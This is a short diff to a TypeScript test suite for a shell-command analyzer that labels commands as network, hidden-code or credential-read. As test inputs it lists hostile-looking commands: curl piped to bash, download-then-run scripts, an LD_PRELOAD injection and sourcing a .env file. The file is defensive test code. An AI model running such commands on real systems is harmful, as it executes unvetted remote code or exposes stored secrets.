@@ -45,6 +45,9 @@ function kinds(analysis: Analysis): readonly string[] {
 describe("analyze", () => {
   const FLAGS: readonly (readonly [command: string, kinds: readonly string[]])[] = [
     ["bash -c 'curl https://a.example'", ["network"]],
+    ["env A=b timeout 5 nice -n 3 bash -c 'curl https://a.example'", ["network"]],
+    ["env LD_PRELOAD=/tmp/x.so ls", ["hidden-code"]],
+    ["source .env", ["credential-read"]],
     ["echo 'curl https://a.example' > x.sh; bash x.sh", ["network"]],
     ["curl -o /tmp/i.sh https://a.example && sh /tmp/i.sh", ["hidden-code", "network"]],
     ["curl https://a.example | bash", ["hidden-code", "network"]],
